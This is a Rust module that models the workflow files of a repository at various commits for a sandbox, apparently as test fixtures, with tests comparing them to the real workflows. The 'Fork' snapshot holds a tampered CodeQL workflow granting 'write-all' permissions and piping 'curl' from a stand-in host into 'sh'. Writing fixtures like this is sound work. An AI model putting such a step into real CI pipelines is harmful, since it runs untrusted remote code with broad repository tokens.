//! The files of the repository at its commits, and what a workflow file says about its manual dispatch.
//!
//! Pure. Most commits have the files of `main`; a `Snapshot` names the few that differ.

mod dispatch;

pub(crate) use dispatch::{Inputs, judge, run_name};

/// One file of the repository: its path and its text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct File {
    pub path: &'static str,
    pub text: &'static str,
}

/// The files of a commit, as far as they differ from those of `main`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default)]
pub(crate) enum Snapshot {
    /// The files of `main`.
    #[default]
    Main,
    /// The file of the fleet checks is not valid YAML.
    Invalid,
    /// The file of the fleet checks is valid YAML, but no valid workflow.
    NoJobs,
    /// A workflow that GitHub has not registered, and fleet checks that cannot be dispatched.
    Experiment,
    /// A fork, whose owner has changed the analysis.
    Fork,
}

/// The path of the file that the snapshots replace.
pub(crate) const FLEET: &str = ".github/workflows/fleet-checks.yaml";
const CODEQL: &str = ".github/workflows/codeql.yaml";

macro_rules! workflow {
    ($file:literal) => {
        File {
            path: concat!(".github/workflows/", $file),
            text: include_str!(concat!("../../assets/workflows/", $file)),
        }
    };
}

const MAIN: &[File] = &[
    workflow!("codeql.yaml"),
    workflow!("deploy.yaml"),
    workflow!("docker-deploy.yaml"),
    File { path: FLEET, text: include_str!("../../assets/fleet-checks.yaml") },
    workflow!("image.yaml"),
    workflow!("linting-testing.yaml"),
    workflow!("release.yaml"),
];

const INVALID: &[File] = &[File {
    path: FLEET,
    text: "# Checks the fleet's software.\nname: Fleet checks\non:\n  push:\n  workflow_dispatch:\njobs:\n  check:\n    \
           runs-on: ubuntu-24.04\n    steps:\n      - run: echo result: done\n",
}];

const NO_JOBS: &[File] = &[File {
    path: FLEET,
    text: "# Checks the fleet's software.\nname: Fleet checks\non:\n  push:\n  workflow_dispatch:\njob:\n  check:\n    \
           runs-on: ubuntu-24.04\n    steps:\n      - run: ./test.sh\n",
}];

const EXPERIMENT: &[File] = &[
    File {
        path: ".github/workflows/drill.yaml",
        text: "name: Drill\non: workflow_dispatch\njobs:\n  drill:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: \
               ./drill.sh\n",
    },
    File {
        path: FLEET,
        text: "name: Fleet checks\non:\n  schedule:\n    - cron: '17 3 * * *'\njobs:\n  prepare:\n    runs-on: \
               ubuntu-24.04\n    steps:\n      - run: ./prepare.sh\n",
    },
];

const FORK: &[File] = &[File {
    path: CODEQL,
    text: "name: CodeQL\non: [push, pull_request]\npermissions: write-all\njobs:\n  analyze:\n    runs-on: \
           ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -s https://example.net/setup | \
           sh\n",
}];

impl Snapshot {
    /// Returns the files that differ from those of `main`.
    pub(crate) const fn changed(self) -> &'static [File] {
        match self {
            Self::Main => &[],
            Self::Invalid => INVALID,
            Self::NoJobs => NO_JOBS,
            Self::Experiment => EXPERIMENT,
            Self::Fork => FORK,
        }
    }

    /// Returns all files, sorted by path.
    pub(crate) fn files(self) -> Vec<File> {
        let changed = self.changed();
        let unchanged = MAIN.iter().filter(|file| changed.iter().all(|other| other.path != file.path));
        let mut files = unchanged.chain(changed).copied().collect::<Vec<_>>();
        files.sort_by_key(|file| file.path);
        files
    }

    /// Returns the text of a file.
    pub(crate) fn read(self, path: &str) -> Option<&'static str> {
        self.changed().iter().chain(MAIN).find(|file| file.path == path).map(|file| file.text)
    }
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;

    #[test]
    fn the_workflow_files_equal_those_of_this_repository() {
        let real = Path::new(env!("CARGO_MANIFEST_DIR")).join("../.github/workflows");
        let mut names = std::fs::read_dir(&real)
            .unwrap()
            .map(|entry| entry.unwrap().file_name().into_string().unwrap())
            .collect::<Vec<_>>();
        names.sort();
        let copied = MAIN.iter().filter(|file| file.path != FLEET).collect::<Vec<_>>();
        let known = copied.iter().map(|file| file.path.rsplit('/').next().unwrap()).collect::<Vec<_>>();
        assert_eq!(known, names, "copy .github/workflows to sandbox/assets/workflows");
        for (file, name) in copied.iter().zip(&names) {
            let text = std::fs::read_to_string(real.join(name)).unwrap();
            assert_eq!(file.text, text, "copy .github/workflows/{name} to sandbox/assets/workflows");
        }
    }

    #[test]
    fn a_snapshot_replaces_and_adds_files() {
        assert!(Snapshot::Invalid.read(FLEET).unwrap().contains("echo result: done"));
        assert_eq!(Snapshot::Invalid.files().len(), MAIN.len());
        assert_eq!(Snapshot::Experiment.files().len(), MAIN.len() + 1);
        assert!(Snapshot::Main.read(".github/workflows/drill.yaml").is_none());
    }
}
